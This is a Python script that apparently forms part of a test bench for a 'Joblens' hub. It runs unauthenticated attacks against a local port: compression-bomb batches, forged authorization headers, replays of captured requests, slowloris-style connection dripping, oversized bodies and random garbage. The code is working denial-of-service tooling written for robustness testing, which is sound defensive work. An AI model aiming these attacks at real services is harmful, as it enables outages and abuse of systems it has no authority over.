"""What somebody without a token can do to a hub: `stranger.py WHAT PORT [CAPTURED]`.

It says `going` when the attack is on its way, and ends with its input, or by itself after a while. CAPTURED
is a file with a request of a node's, as it was seen on the network. The bench runs it too.
"""

from __future__ import annotations

import json
import os
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle

MOST_SECONDS = 120.0
USER = 61_503  # where root runs it: not the hub's
MIB = 1 << 20
_POST = "POST /v1/batch HTTP/1.1\r\nHost: hub\r\nContent-Length: {}\r\n{}\r\n"
_FORGED = f"X-Joblens-Batch: lab n1 b1 9 1794775948.5 {'0a' * 32}\r\nAuthorization: Joblens {'1b' * 32}\r\n"


class Attack:
    def __init__(self, port: int, captured: bytes) -> None:
        self.port, self.captured = port, captured
        self._end = time.monotonic() + MOST_SECONDS
        self._said = False

    def goes_on(self) -> bool:
        """To be asked once the attack works."""
        if not self._said:
            print("going", flush=True)
            self._said = True
        return time.monotonic() < self._end and not select.select([0], [], [], 0)[0]

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=5)

    def _ask(self, data: bytes) -> None:
        """Sends all that the hub takes, and reads its answer."""
        with suppress(OSError), self.connect() as channel:
            with suppress(OSError):
                channel.sendall(data)
            channel.recv(65_536)

    def _again_and_again(self, data: bytes, pause: float = 0.0) -> None:
        self._ask(data)
        while self.goes_on():
            self._ask(data)
            time.sleep(pause)

    def bombs(self) -> None:
        """Batches of 2 KB with a header that takes the hub 1 MB and much work to read."""
        self._again_and_again(_POST.format(len(bomb()), "").encode() + bomb())

    def slow_bombs(self) -> None:
        """The same, 2.6 KB in a second."""
        self._again_and_again(_POST.format(len(bomb()), "").encode() + bomb(), len(bomb()) / 2600)

    def forged(self) -> None:
        self._again_and_again(_POST.format(len(bomb()), _FORGED).encode() + bomb())

    def garbage(self) -> None:
        self._again_and_again(os.urandom(100_000))

    def pages(self) -> None:
        self._again_and_again(b"GET /sets HTTP/1.1\r\nHost: hub\r\n\r\n")

    def replays(self) -> None:
        self._again_and_again(self.captured)

    def held_replays(self) -> None:
        """The same, and each connection is kept."""
        self._drip(self.captured, b"")

    def begun_replays(self) -> None:
        """The head of a node's request, and its body a byte at a time."""
        head, end, _ = self.captured.partition(b"\r\n\r\n")
        self._drip(head + end, b"x")

    def other_bodies(self) -> None:
        """The head of a node's request, with another body of the same length."""
        head, end, body = self.captured.partition(b"\r\n\r\n")
        self._again_and_again(head + end + b"x" * len(body))

    def bodies(self) -> None:
        """16 MiB each."""
        self._again_and_again(_POST.format(16 * MIB, "").encode() + bytes(16 * MIB))

    def slow_bodies(self) -> None:
        self._drip(_POST.format(16 * MIB, _FORGED).encode(), bytes(1000))

    def slow_heads(self) -> None:
        self._drip(b"POST /v1/batch HTTP/1.1\r\nX-Long: ", b"x" * 1000)

    def idle(self) -> None:
        self._drip(b"", b"")

    def _drip(self, first: bytes, more: bytes) -> None:
        """On as many connections as there can be, each replaced when the hub ends it."""
        channels = [self._begin(first) for _ in range(300)]
        for place in cycle(range(len(channels))):
            if not self.goes_on():
                return
            try:
                readable = select.select([channels[place]], [], [], 0)[0]
                if more:
                    channels[place].send(more)
                if readable and not channels[place].recv(65_536):
                    raise ConnectionResetError
            except OSError:
                channels[place].close()
                channels[place] = self._begin(first)
            time.sleep(0.001)

    def _begin(self, first: bytes) -> socket.socket:
        channel = socket.socket()
        channel.settimeout(5)
        with suppress(OSError):
            channel.connect(("127.0.0.1", self.port))
            channel.sendall(first)
        return channel


def bomb() -> bytes:
    header = {"version": 1, "cluster": "lab", "node": "n1", "boot": "b1", "sequence": 9}
    text = json.dumps({**header, "jobs": [[[]] * 5] * 60_000})[: MIB - 1]
    packed = zlib.compress(text.encode(), 9)
    return b"JLB1" + struct.pack("<I", len(packed)) + packed


ATTACKS = (
    "bombs", "slow_bombs", "forged", "garbage", "pages", "replays", "held_replays", "begun_replays",
    "other_bodies", "bodies", "slow_bodies",
    "slow_heads", "idle",
)  # fmt: skip


def main(what: str, port: str, path: str = "") -> None:
    captured = b""
    if path:
        with open(path, "rb") as file:
            captured = file.read()
    import encodings.idna  # noqa: F401 (later it may not be readable)

    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(USER)
        os.setuid(USER)
    attack: Callable[[], None] = getattr(Attack(int(port), captured), what)
    attack()


if __name__ == "__main__":
    main(*sys.argv[1:])
